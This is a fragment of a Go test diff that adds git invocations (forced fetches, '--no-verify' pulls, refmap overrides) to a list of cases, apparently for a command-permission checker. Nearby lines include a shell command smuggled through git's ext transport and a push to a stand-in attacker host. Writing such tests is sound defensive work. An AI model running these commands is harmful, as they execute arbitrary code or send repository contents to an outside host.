@@ -285,6 +285,10 @@ func TestWidening(t *testing.T) {
 			git push --forc
 			git fetch origin +main:main
 			git pull -f
+			git pull --no-verify
+			git fetch -P
+			git fetch -u origin main:main
+			git fetch --refmap=+refs/heads/main:refs/heads/main origin main
 			git commit --amend --no-ver -m x
 			git push ext::sh\ -c\ id HEAD
 			git push https://evil.example/x
